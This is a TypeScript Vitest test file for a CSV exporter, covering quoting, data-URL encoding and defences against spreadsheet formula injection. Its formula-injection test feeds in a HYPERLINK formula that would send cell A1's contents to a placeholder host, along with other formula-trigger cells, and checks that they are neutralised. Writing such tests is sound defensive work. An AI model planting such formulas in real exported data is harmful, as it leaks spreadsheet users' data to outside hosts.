import { describe, expect, it } from 'vitest';
import { csvDataUrl, toCsv } from '../../src/formats/csv.ts';

describe('toCsv', () => {
  it('quotes fields with commas, quotes or line breaks and leaves numbers unformatted', () => {
    expect(
      toCsv(
        ['name', 'value'],
        [
          ['Korea, Republic of', 1234567.5],
          ['Say "no"', null],
          ['a\nb', Number.NaN],
        ],
      ),
    ).toBe('name,value\r\n"Korea, Republic of",1234567.5\r\n"Say ""no""",\r\n"a\nb",\r\n');
  });
});

describe('csvDataUrl', () => {
  it('is a UTF-8 data URL with a BOM, so nothing is fetched and accents survive spreadsheets', () => {
    const url = csvDataUrl('é\r\n');
    expect(url.startsWith('data:text/csv;charset=utf-8,')).toBe(true);
    expect(decodeURIComponent(url.slice(url.indexOf(',') + 1))).toBe('\uFEFFé\r\n');
  });
});

describe('csvDataUrl escaping', () => {
  it('escapes what would end or break the URL (hash, percent, quotes, line breaks) and nothing more', () => {
    const url = csvDataUrl('a,"b #1",50%\r\n');
    expect(url).toBe('data:text/csv;charset=utf-8,%EF%BB%BFa,%22b%20%231%22,50%25%0D%0A');
    expect(decodeURIComponent(url.slice(url.indexOf(',') + 1))).toBe('\uFEFFa,"b #1",50%\r\n');
  });
});

describe('toCsv against formula injection (OWASP)', () => {
  it('prefixes text cells that start with = + - @ TAB or CR with a quote mark, and quotes them', () => {
    const csv = toCsv(['note'], [['=HYPERLINK("http://x.example/?"&A1,"click")'], ['+1+2'], ['-2+3'], ['@SUM(A1)'], ['\tcmd'], ['\rcmd']]);
    expect(csv.split('\r\n').slice(1, -1)).toEqual(['"\'=HYPERLINK(""http://x.example/?""&A1,""click"")"', '"\'+1+2"', '"\'-2+3"', '"\'@SUM(A1)"', '"\'\tcmd"', '"\'\rcmd"']);
  });

  it('keeps numbers, negative ones too, as numbers, and leaves ordinary text alone', () => {
    expect(toCsv(['a', 'b', 'c'], [[-12.5, 'Côte d’Ivoire', 'a=b']])).toBe('a,b,c\r\n-12.5,Côte d’Ivoire,a=b\r\n');
  });

  it('neutralises a header cell too (a console column may be named by whoever wrote the query)', () => {
    expect(toCsv(['=1+1'], []).startsWith('"\'=1+1"')).toBe(true);
  });
});
